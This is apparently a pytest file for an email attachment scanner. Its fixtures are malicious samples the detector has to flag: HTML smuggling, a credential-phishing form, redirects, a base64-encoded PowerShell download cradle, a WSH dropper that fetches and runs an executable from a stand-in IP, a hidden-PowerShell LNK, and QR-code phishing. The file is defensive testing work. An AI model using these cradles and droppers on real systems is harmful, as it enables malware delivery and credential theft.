from __future__ import annotations

import base64
import io

import segno
from PIL import Image

from tap_core.attachments.engine import AttachmentEngine
from tap_core.attachments.model import FileResult
from tap_core.model.findings import Verdict
from tests.attachments.builders import make_lnk, make_zip


def _names(result: FileResult) -> set[str]:
    return {f.name for f in result.all_findings()}


def _places(result: FileResult) -> set[tuple[str, str]]:
    """(url, context) of the URLs the file itself carries."""
    return {(found.url, found.context) for found in result.urls}


def test_html_smuggling_decodes_the_payload(engine: AttachmentEngine) -> None:
    payload = base64.b64encode(
        make_zip({"invoice.js": b'var s = new ActiveXObject("WScript.Shell");\n' * 30})
    )
    page = (
        "<html><body><script>\n"
        f"var d = atob('{payload.decode()}');\n"
        "var bytes = new Uint8Array(d.length);\n"
        "for (var i = 0; i < d.length; i++) bytes[i] = d.charCodeAt(i);\n"
        "var blob = new Blob([bytes], {type: 'application/zip'});\n"
        "if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, 'invoice.zip');\n"
        "var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.zip';"
        " a.click();\n</script></body></html>"
    )
    result = engine.scan("invoice.html", page.encode())
    assert "yara_html_smuggling" in result.reasons
    smuggled = result.children[0]
    assert smuggled.type == "zip"
    assert smuggled.children[0].name == "invoice.js"
    assert result.verdict is Verdict.SUSPICIOUS or result.verdict is Verdict.MALICIOUS


def test_credential_phishing_page(engine: AttachmentEngine) -> None:
    page = (
        b"<html><head><title>Sign in</title></head><body><form method='post' "
        b"action='https://collector.example.net/p.php'><input type='email' name='u'>"
        b"<input type='password' name='p'><button>Sign in</button></form></body></html>"
    )
    result = engine.scan("Secure_Message.htm", page)
    assert {"html_password_form", "html_form_offsite"} <= set(result.reasons)
    assert ("https://collector.example.net/p.php", "form_action") in _places(result)
    assert result.verdict is Verdict.SUSPICIOUS


def test_meta_refresh_and_js_redirect(engine: AttachmentEngine) -> None:
    page = (
        b'<html><head><meta http-equiv="refresh" content="0; url=https://land.example.org/x"></head>'
        b"<body><script>window.location.href = 'https://next.example.org/y';</script></body></html>"
    )
    result = engine.scan("fax.html", page)
    assert {"html_meta_refresh", "html_js_redirect"} <= set(result.reasons)
    assert {
        ("https://land.example.org/x", "meta_refresh"),
        ("https://next.example.org/y", "attachment_strings"),  # in a script: the raw strings scan
    } <= _places(result)


def test_powershell_cradle_and_encoded_command(engine: AttachmentEngine) -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
    encoded = base64.b64encode(inner.encode("utf-16-le")).decode()
    script = f"$x = 1\npowershell.exe -NoP -W Hidden -enc {encoded}\nWrite-Host done\n".encode()
    result = engine.scan("update.ps1", script)
    assert "yara_powershell_encoded_command" in result.reasons
    child = result.children[0]
    assert "yara_powershell_download_cradle" in child.reasons
    assert "http://198.51.100.7/a.ps1" in result.all_urls()
    assert ("http://198.51.100.7/a.ps1", "decoded_payload") in _places(result)
    assert result.verdict is Verdict.MALICIOUS


def test_wsh_dropper(engine: AttachmentEngine) -> None:
    js = (
        b'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://203.0.113.5/p.exe", false);\n'
        b'x.send(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody);\n'
        b's.SaveToFile("p.exe"); new ActiveXObject("WScript.Shell").Run("p.exe");\n'
    )
    result = engine.scan("doc.js", js)
    assert {"dangerous_type", "yara_wsh_download_execute"} <= set(result.reasons)
    assert result.verdict is not Verdict.CLEAN


def test_lnk_running_powershell(engine: AttachmentEngine) -> None:
    lnk = make_lnk(
        r"..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        " " * 60 + "-w hidden -c iex(iwr http://198.51.100.8/s)",
    )
    result = engine.scan("Invoice.pdf.lnk", lnk)
    assert {"dangerous_type", "double_extension", "yara_lnk_runs_script_host", "lnk_long_arguments"} <= set(
        result.reasons
    )
    assert ("http://198.51.100.8/s", "attachment_strings") in _places(result)
    assert result.verdict is Verdict.MALICIOUS


def _qr_png(url: str) -> bytes:
    buffer = io.BytesIO()
    segno.make(url, error="m").save(buffer, kind="png", scale=6)
    return buffer.getvalue()


def test_qr_code_image_decoded_to_url(engine: AttachmentEngine) -> None:
    result = engine.scan("scan.png", _qr_png("https://quish.example.com/login?id=7"))
    assert "qr_code_url" in result.reasons
    assert _places(result) == {("https://quish.example.com/login?id=7", "qr_code")}


def test_qr_code_in_pdf_page(engine: AttachmentEngine) -> None:
    image = Image.open(io.BytesIO(_qr_png("https://pdf-quish.example.com/a"))).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, format="PDF")
    result = engine.scan("scan.pdf", buffer.getvalue())
    assert "qr_code_url" in result.reasons
    assert ("https://pdf-quish.example.com/a", "qr_code") in _places(result)
